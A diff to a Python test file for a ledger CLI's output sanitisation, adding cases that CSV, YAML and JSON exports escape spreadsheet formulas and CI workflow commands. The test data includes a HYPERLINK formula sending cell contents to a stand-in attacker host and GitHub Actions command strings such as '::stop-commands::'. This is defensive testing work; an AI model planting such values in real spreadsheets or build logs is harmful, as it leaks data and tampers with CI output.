@@ -12,6 +12,7 @@ from pathlib import Path
 
 import jsonschema
 import pytest
+from ruamel.yaml import YAML
 
 from conftest import invoke
 from gitrepo import commit, ledger
@@ -84,7 +85,9 @@ def test_markdown_escapes_markup_and_html() -> None:
 @pytest.mark.parametrize(("value", "cell"), [
     ('=HYPERLINK("https://evil.example/?x="&A1,"click")', '\'=HYPERLINK("https://evil.example/?x="&A1,"click")'),
     ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
-    ("-3.5", "-3.5"), ("+7", "+7"), ("1e-3", "1e-3"), ("plain", "plain"), (3, 3), (None, None),
+    ("a\n::add-mask::x", "a\n\\::add-mask::x"), ("a\r ::x", "a\r \\::x"),
+    ("##[error]x", "##\\[error]x"),
+    ("a::b", "a::b"), ("-3.5", "-3.5"), ("+7", "+7"), ("1e-3", "1e-3"), ("plain", "plain"), (3, 3), (None, None),
 ])
 def test_csv_cell(value: object, cell: object) -> None:
     assert neutral.csv_cell(value) == cell
@@ -142,6 +145,14 @@ def test_json_keeps_values_and_prints_safely(run, ledger_dir: Path) -> None:  # 
         assert "\\u0023#[add-mask]x \\u202eevil\\u2066 \\u0085" in result.stdout, args
     [doc] = json.loads(run("list", "--format", "json", "--since", "2021").stdout)
     assert doc["title"] == title
+    listed = run("list", "--format", "yaml", "--since", "2021")
+    shown = run("show", "2021-01-01-json-kkkk", "--format", "yaml")
+    for result in (listed, shown):
+        assert result.exit_code == 0, result.stderr
+        assert not RAW.search(result.stdout) and "##[" not in result.stdout
+        assert 'title: "\\x23#[add-mask]x \\u202eevil\\u2066 \\N a\\u200bb\\uFEFF"' in result.stdout
+        [doc] = [d for d in YAML(typ="safe").load_all(result.stdout)]
+        assert doc["title"] == title
     ids = run("list", "--format", "ids", "--since", "2021")
     assert ids.stdout == "2021-01-01-json-kkkk\n"
 
@@ -267,6 +278,19 @@ def test_csv_cells_are_never_formulas_unless_raw(run, ledger_dir: Path) -> None:
     # JSON keeps the value exactly.
     [doc] = json.loads(run("list", "--format", "json", "--since", "2021").stdout)
     assert doc["title"] == FORMULA
+
+
+def test_csv_cells_spanning_lines_start_no_command(run, ledger_dir: Path) -> None:  # type: ignore[no-untyped-def]
+    extra = 'description: "one\\n::stop-commands::tok\\n  ##[add-mask]x"\n'
+    put(ledger_dir, "2021-01-01-csv-llll.yaml", record("2021-01-01-csv-llll", "t", extra=extra))
+    for args in (("list", "--format", "csv"), ("export", "--format", "csv")):
+        result = run(*args, "--since", "2021")
+        assert result.exit_code == 0, result.stderr
+        assert command_lines(result.stdout) == [], args
+        [row] = _rows(result.stdout)
+        assert row["description"] == "one\n\\::stop-commands::tok\n  ##\\[add-mask]x"
+        [raw] = _rows(run(*args, "--since", "2021", "--raw").stdout)
+        assert raw["description"] == "one\n::stop-commands::tok\n  ##[add-mask]x"
 
 
 def test_csv_keeps_plain_negative_numbers(run, ledger_dir: Path) -> None:  # type: ignore[no-untyped-def]
